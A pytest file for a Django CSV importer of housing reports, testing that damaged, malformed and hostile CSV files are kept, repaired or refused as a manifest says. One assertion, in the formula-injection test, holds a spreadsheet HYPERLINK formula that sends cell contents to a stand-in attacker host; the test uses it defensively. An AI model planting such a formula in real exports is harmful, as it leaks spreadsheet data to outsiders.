"""Damaged and hostile CSV files of reports: what enters, what is refused and why, as their manifest says."""

import pytest
from django.contrib.gis.geos import MultiPolygon, Polygon

from cadastre_import.sources import SOURCES
from layers.models import Signalement
from tests.cadastre_import.hostile_files import NEEDED, hostile, imported, refused
from tests.factories import CommuneFactory

pytestmark = [pytest.mark.django_db, NEEDED]

SOURCE = SOURCES["signal-logement-import"]
ENTRIES = hostile("csv")

# file: (reports kept, lines refused with words of the reason)
DAMAGED = {
    "00_good_reference.csv": (5, {}),
    "04_utf16le_excel.csv": (5, {}),
    "07_header_case_spaces_nbsp.csv": (5, {}),
    "09_extra_fields_row.csv": (3, {3: "nombre de champs", 5: "nombre de champs"}),
    "11_quotes_newlines_ok.csv": (5, {}),
    "12_formula_injection.csv": (8, {}),
    "14_nul_bytes.csv": (4, {3: "caractère illisible (nul)"}),
    "16_lat_lon_swapped.csv": (1, {2: "semblent inversées", 4: "semblent inversées"}),
    "17_lambert93_in_latlon.csv": (1, {2: "EPSG:2154", 3: "EPSG:2154"}),
    "18_coord_garbage.csv": (
        0,
        {
            2: "longitude : nombre attendu",
            3: "nombre attendu",
            4: "nombre attendu",
            5: "nombre attendu",
            6: "hors de France",
            7: "longitude ou latitude absente",
            8: "pas en degrés",
            9: "nombre attendu",
        },
    ),
    "19_decimal_comma_coords.csv": (1, {}),
    "20_insee_codes.csv": (
        4,
        {
            3: "en Corse : 2A004 ou 2B004",
            6: "code invalide '974411'",
            7: "zéro du début est sans doute perdu : 01004",
            8: "code invalide '99999'",
            10: "à plus de 500 m de la commune 13055",
        },
    ),
    "21_duplicates.csv": (2, {3: "doublon de la ligne 2", 4: "lignes 4, 5", 5: "lignes 4, 5"}),
}
REFUSED = {
    "06_missing_required_column.csv": "il manque la colonne « adresse occupant »",
    "22_empty.csv": "fichier vide",
    "23_header_only.csv": "aucun enregistrement",
    "24_xlsx_renamed.csv": "classeur Excel",
}


@pytest.fixture(autouse=True)
def _communes():
    """Give the communes that the files name; Annecy has absorbed Annecy-le-Vieux."""
    marseille = MultiPolygon(Polygon.from_bbox((5.22, 43.16, 5.54, 43.40)))
    CommuneFactory(code="13055", geom=marseille)
    CommuneFactory(code="74010", geom=None, anciens_codes=["74011"])
    for code in ("2A004", "2B033", "97411", "69382", "13201", "75110", "01004"):
        CommuneFactory(code=code, geom=None)


def test_every_hostile_file_is_held_to_its_manifest():
    assert set(ENTRIES) == {*DAMAGED, *REFUSED}


@pytest.mark.parametrize("name", DAMAGED)
def test_a_damaged_line_costs_only_itself(name):
    kept, lines = DAMAGED[name]
    entry = ENTRIES[name]
    assert (entry["accepted"], entry["rejected"]) == (kept, len(lines))
    report = imported(SOURCE, entry)
    told = {line: reason for line, reason, _ in report.rejects}
    assert set(told) == set(lines), told
    assert [line for line in lines if lines[line] not in told[line]] == [], told
    assert Signalement.objects.unscoped("test").count() == kept


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_refused_whole_leaves_what_was_there(name):
    imported(SOURCE, ENTRIES["00_good_reference.csv"])
    before = list(Signalement.objects.unscoped("test").order_by("pk").values())
    assert ENTRIES[name]["must"] == "reject_file"
    assert REFUSED[name] in refused(SOURCE, ENTRIES[name])
    assert list(Signalement.objects.unscoped("test").order_by("pk").values()) == before


def test_what_was_changed_to_read_a_file_is_told():
    assert imported(SOURCE, ENTRIES["04_utf16le_excel.csv"]).notices == [
        "encodage UTF-16 (« texte Unicode » d’Excel), lu en UTF-8"
    ]
    assert imported(SOURCE, ENTRIES["20_insee_codes.csv"]).notices == [
        "1 signalement(s) d’une commune fusionnée, portés au code Insee d’aujourd’hui"
    ]
    codes = Signalement.objects.unscoped("test").filter(reference__startswith="2025-9")
    assert set(codes.values_list("code_insee", flat=True)) == {"2A004", "13055", "75056", "74010"}
    kept = dict(codes.exclude(arrondissement="").values_list("arrondissement", "code_insee"))
    assert kept == {"13201": "13055", "75110": "75056"}


def test_accents_quotes_and_formulas_are_stored_as_written():
    imported(SOURCE, ENTRIES["11_quotes_newlines_ok.csv"])
    first = Signalement.objects.unscoped("test").get(reference="2025-0001")
    assert first.description.splitlines() == ["Ligne 1", 'ligne 2 ; avec point-virgule et "guillemets"']
    assert (first.adresse, first.superficie_m2) == ("12 rue de la République", 42.5)
    closed = Signalement.objects.unscoped("test").get(reference="2025-0004")
    assert (closed.departement, closed.status) == ("974", Signalement.Status.CLOSED)
    imported(SOURCE, ENTRIES["12_formula_injection.csv"])
    formula = Signalement.objects.unscoped("test").get(reference="2025-9004")
    assert formula.description == '=HYPERLINK("http://evil.example/?x="&A1)'


def test_names_of_occupants_are_not_kept():
    imported(SOURCE, ENTRIES["00_good_reference.csv"])
    rows = Signalement.objects.unscoped("test").values()
    assert rows
    assert "DUPONT" not in str(list(rows))
